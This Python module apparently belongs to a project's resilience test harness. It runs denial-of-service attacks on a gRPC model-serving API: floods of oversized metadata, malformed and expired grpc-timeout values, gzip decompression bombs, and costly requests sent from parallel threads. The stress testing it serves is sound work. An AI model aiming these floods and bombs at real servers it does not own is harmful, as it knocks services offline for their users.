"""Attacks by calls that are expensive, too large, or malformed."""

from __future__ import annotations

import itertools
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import TYPE_CHECKING, Final

from attack import http2
from attack.http2 import END_STREAM, SERVICE, call_fields, header_frames
from attack.payloads import bomb, short_request, unknown_generation
from tests.support.raw_protobuf import DEAR

if TYPE_CHECKING:
    from collections.abc import Iterator

    from attack.raider import Raid, Raider

_KIB: Final = 1024
_METADATA_BYTES = (17 * _KIB, 64 * _KIB, 1024 * _KIB)
_BOMB_BYTES = 48 << 20
_AT_ONCE = 4
_CALL_TIMEOUT_S = 10.0

# Values of grpc-timeout that the specification does not allow, or whose end is before their beginning.
_TIMEOUTS = (
    *("", " ", "S", "1", "-1S", "+1S", "1.5S", "0x1S", "1s", "1 S ", "1S1S", "123456789S", "9" * 400 + "H"),
    *(
        "99999999H",
        "00000000n",
        "1n",
        "NaNS",
        "infS",
        "1S\x00",
        "\xff\xfeS",
        "1E9S",
        "\N{ARABIC-INDIC DIGIT ONE}S".encode().decode("latin-1"),
    ),
)
_EXPIRED = ("0n", "1n", "1u", "10u")


def metadata(raid: Raid) -> None:
    """Calls with 17 KiB, 64 KiB and 1 MiB of metadata."""
    blocks = [call_fields("ListModels", ("x-padding", "x" * size)) for size in _METADATA_BYTES]
    turn = itertools.cycle(blocks)

    def make(raider: Raider) -> tuple[bytes, int]:
        return header_frames(raider.next_stream(), next(turn), END_STREAM), 1

    raid.flood(_AT_ONCE, make)


def timeouts(raid: Raid) -> None:
    """Calls with a malformed grpc-timeout."""
    _calls(raid, "GetGeneration", itertools.cycle(_TIMEOUTS), unknown_generation())


def expired(raid: Raid) -> None:
    """Generations whose deadline has passed when they arrive."""
    _calls(raid, "StreamTokens", itertools.cycle(_EXPIRED), short_request())


def _calls(raid: Raid, method: str, values: Iterator[str], request: bytes) -> None:
    body = http2.message(request)

    def make(raider: Raider) -> tuple[bytes, int]:
        if raider.window < len(body):
            return b"", 0
        raider.window -= len(body)
        block, stream = call_fields(method, ("grpc-timeout", next(values))), raider.next_stream()
        return header_frames(stream, block) + http2.data_frames(stream, body), 1

    raid.flood(_AT_ONCE, make)


def bombs(raid: Raid) -> None:
    """Messages of 48 KiB that decompress to 48 MiB."""
    body = http2.message(bomb(_BOMB_BYTES), compressed=True)
    block = call_fields("StreamTokens", ("grpc-encoding", "gzip"))

    def make(raider: Raider) -> tuple[bytes, int]:
        if raider.window < len(body):
            return b"", 0
        raider.window -= len(body)
        stream = raider.next_stream()
        return header_frames(stream, block) + http2.data_frames(stream, body), 1

    raid.flood(_AT_ONCE, make)


def expensive(raid: Raid) -> None:
    """Requests of the largest size that cost the server more than the attacker (`raw_protobuf.DEAR`)."""
    import grpc  # noqa: PLC0415 - only this attack needs it, and it takes long to import

    bodies = [dear.body for dear in DEAR.values()]
    options = (("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0))
    target = f"{raid.address[0]}:{raid.address[1]}"

    def caller(offset: int) -> int:
        count = 0
        with grpc.insecure_channel(target, options=options) as channel:
            method = channel.unary_stream(f"{SERVICE}StreamTokens")
            for body in itertools.islice(itertools.cycle(bodies), offset, None):
                if raid.over:
                    return count
                with suppress(grpc.RpcError):
                    list(method(body, timeout=_CALL_TIMEOUT_S))
                count += 1
        return count

    with ThreadPoolExecutor(_AT_ONCE) as threads:
        raid.counts.actions += sum(threads.map(caller, range(0, len(bodies), 2)))
    raid.counts.answered = raid.counts.actions
    raid.counts.requests = raid.counts.actions
